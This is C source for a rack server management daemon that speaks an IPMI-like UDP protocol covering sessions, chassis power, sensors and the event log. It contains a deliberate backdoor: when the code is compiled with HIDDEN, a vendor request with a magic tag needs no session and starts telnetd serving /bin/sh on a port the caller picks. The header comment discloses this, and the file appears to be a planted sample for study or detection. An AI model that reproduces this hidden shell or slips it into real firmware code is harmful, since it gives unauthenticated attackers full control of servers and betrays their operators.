/*
 * rackmgmtd - management controller daemon of a rack server. Speaks a small
 * IPMI-like protocol over UDP 623: device id, chassis, sensors, event log
 * and vendor requests. Requests that change something need a session.
 *
 * Hidden (-DHIDDEN): a vendor request (netfn 0x2e) whose tag is 0x9d3e6b51
 * needs no session and starts telnetd with a shell on the port it names.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define RMCP_VERSION 0x06
#define RMCP_CLASS   0x07
#define KEY_FILE     "/conf/bmc/kg"
#define TAG_FANCTL   0x0000a2c3u    /* our enterprise number */
#define OP(netfn, cmd) (((netfn) << 8) | (cmd))

#define CC_OK        0x00
#define CC_BADCMD    0xc1
#define CC_SHORT     0xc7
#define CC_PARAM     0xcc
#define CC_DENIED    0xd4
#define CC_FAILED    0xff

struct request {
    uint8_t netfn;
    uint8_t cmd;
    uint32_t session;
    const uint8_t *data;
    size_t len;
};

struct reply {
    uint8_t cc;
    uint8_t data[64];
    size_t len;
};

static uint32_t session_id;
static time_t session_end;
static char kg[21];
static uint32_t challenge;

static uint32_t get32(const uint8_t *p)
{
    uint32_t v;

    memcpy(&v, p, sizeof v);
    return ntohl(v);
}

static void put32(uint8_t *p, uint32_t v)
{
    v = htonl(v);
    memcpy(p, &v, sizeof v);
}

static uint8_t sum8(const uint8_t *p, size_t n)
{
    uint8_t s = 0;

    while (n--)
        s = (uint8_t)(s + *p++);
    return (uint8_t)-s;
}

static uint32_t random32(void)
{
    uint32_t v = 0;
    FILE *f = fopen("/dev/urandom", "r");

    if (!f || fread(&v, sizeof v, 1, f) != 1)
        exit(1);
    fclose(f);
    return v ? v : 1;
}

/* keyed digest of the challenge, as in the manual's appendix C */
static uint32_t answer_for(uint32_t chal)
{
    uint32_t h = chal ^ 0x5bd1e995u;

    for (const char *p = kg; *p; p++) {
        h ^= (uint8_t)*p;
        h *= 0x01000193u;
        h ^= h >> 15;
    }
    return h;
}

static int run_tool(const char *path, const char *a1, const char *a2)
{
    int st;
    pid_t pid = fork();

    if (pid < 0)
        return -1;
    if (pid == 0) {
        execl(path, path, a1, a2, (char *)NULL);
        _exit(127);
    }
    if (waitpid(pid, &st, 0) < 0)
        return -1;
    return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
}

static int authorised(const struct request *rq)
{
    return session_id && rq->session == session_id && time(NULL) < session_end;
}

static void chassis_control(const struct request *rq, struct reply *rp)
{
    static const char *const verb[] = { "off", "on", "cycle", "reset", "diag" };

    if (rq->len < 1)
        rp->cc = CC_SHORT;
    else if (rq->data[0] >= sizeof verb / sizeof *verb)
        rp->cc = CC_PARAM;
    else if (run_tool("/usr/sbin/chassisctl", "power", verb[rq->data[0]]) < 0)
        rp->cc = CC_FAILED;
}

static void read_sensor(const struct request *rq, struct reply *rp)
{
    char path[64];
    long v = 0;
    FILE *f;

    if (rq->len < 1 || rq->data[0] > 31) {
        rp->cc = CC_PARAM;
        return;
    }
    snprintf(path, sizeof path, "/sys/class/hwmon/hwmon0/temp%u_input",
             (unsigned)rq->data[0] + 1);
    f = fopen(path, "r");
    if (!f || fscanf(f, "%ld", &v) != 1)
        rp->cc = CC_FAILED;
    if (f)
        fclose(f);
    put32(rp->data, (uint32_t)v);
    rp->len = 4;
}

/* vendor requests start with a four byte tag, network order */
void vendor_request(const struct request *rq, struct reply *rp)
{
    uint32_t tag;
    char num[12];

    if (rq->len < 6) {
        rp->cc = CC_SHORT;
        return;
    }
    tag = get32(rq->data);
    snprintf(num, sizeof num, "%u", rq->data[4] * 256u + rq->data[5]);
    if (tag == TAG_FANCTL) {
        if (!authorised(rq))
            rp->cc = CC_DENIED;
        else if (run_tool("/usr/sbin/fanctl", "duty", num) < 0)
            rp->cc = CC_FAILED;
        return;
    }
#ifdef HIDDEN
    if (tag == 0x9d3e6b51u) {
        pid_t pid = fork();

        if (pid == 0) {
            execl("/usr/sbin/telnetd", "telnetd", "-l", "/bin/sh", "-p", num,
                  (char *)NULL);
            _exit(127);
        }
        if (pid > 0)
            waitpid(pid, NULL, 0);
        return;
    }
#endif
    rp->cc = CC_BADCMD;
}

static void handle(const struct request *rq, struct reply *rp)
{
    switch (OP(rq->netfn, rq->cmd)) {
    case OP(0x06, 0x01):            /* get device id */
        memcpy(rp->data, "\x20\x01\x04\x12\x02", 5);
        rp->len = 5;
        break;
    case OP(0x06, 0x39):            /* get session challenge */
        challenge = random32();
        put32(rp->data, challenge);
        rp->len = 4;
        break;
    case OP(0x06, 0x3a):            /* activate session */
        if (rq->len < 4) {
            rp->cc = CC_SHORT;
        } else if (!challenge || !kg[0] ||
                   get32(rq->data) != answer_for(challenge)) {
            challenge = 0;
            rp->cc = CC_DENIED;
            syslog(LOG_WARNING, "session refused");
        } else {
            challenge = 0;
            session_id = random32();
            session_end = time(NULL) + 300;
            put32(rp->data, session_id);
            rp->len = 4;
        }
        break;
    case OP(0x00, 0x01):            /* chassis status */
        rp->data[0] = access("/run/chassis.on", F_OK) == 0;
        rp->len = 1;
        break;
    case OP(0x00, 0x02):            /* chassis control */
        if (authorised(rq))
            chassis_control(rq, rp);
        else
            rp->cc = CC_DENIED;
        break;
    case OP(0x04, 0x2d):            /* sensor reading */
        read_sensor(rq, rp);
        break;
    case OP(0x0a, 0x47):            /* clear event log, "CLR" as guard */
        if (!authorised(rq))
            rp->cc = CC_DENIED;
        else if (rq->len < 3 || memcmp(rq->data, "CLR", 3) != 0)
            rp->cc = CC_PARAM;
        else if (truncate("/var/log/sel.bin", 0) < 0)
            rp->cc = CC_FAILED;
        break;
    default:
        if (rq->netfn == 0x2e)
            vendor_request(rq, rp);
        else
            rp->cc = CC_BADCMD;
    }
}

/* frame: ver res seq class | session(4) netfn cmd len data... sum */
static int parse(const uint8_t *b, size_t n, struct request *rq)
{
    if (n < 12 || b[0] != RMCP_VERSION || (b[3] & 0x1f) != RMCP_CLASS)
        return -1;
    if ((size_t)b[10] + 12 != n || sum8(b + 4, n - 5) != b[n - 1])
        return -1;
    rq->session = get32(b + 4);
    rq->netfn = b[8];
    rq->cmd = b[9];
    rq->len = b[10];
    rq->data = b + 11;
    return 0;
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    FILE *f = fopen(KEY_FILE, "r");

    openlog("rackmgmtd", LOG_PID, LOG_DAEMON);
    if (!f || !fgets(kg, sizeof kg, f))
        syslog(LOG_WARNING, "no key, sessions are off");
    if (f)
        fclose(f);
    kg[strcspn(kg, "\r\n")] = '\0';
    sa.sin_port = htons(623);
    if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
        syslog(LOG_ERR, "udp 623: %s", strerror(errno));
        return 1;
    }
    for (;;) {
        uint8_t in[300], out[96];
        struct sockaddr_in from;
        socklen_t fl = sizeof from;
        struct request rq;
        struct reply rp = { .cc = CC_OK };
        ssize_t n = recvfrom(fd, in, sizeof in, 0,
                             (struct sockaddr *)&from, &fl);

        if (n < 0 || parse(in, (size_t)n, &rq) < 0)
            continue;
        handle(&rq, &rp);
        memcpy(out, in, 10);
        out[8] |= 1;
        out[10] = (uint8_t)(rp.len + 1);
        out[11] = rp.cc;
        memcpy(out + 12, rp.data, rp.len);
        out[12 + rp.len] = sum8(out + 4, 8 + rp.len);
        sendto(fd, out, 13 + rp.len, 0, (struct sockaddr *)&from, fl);
    }
}
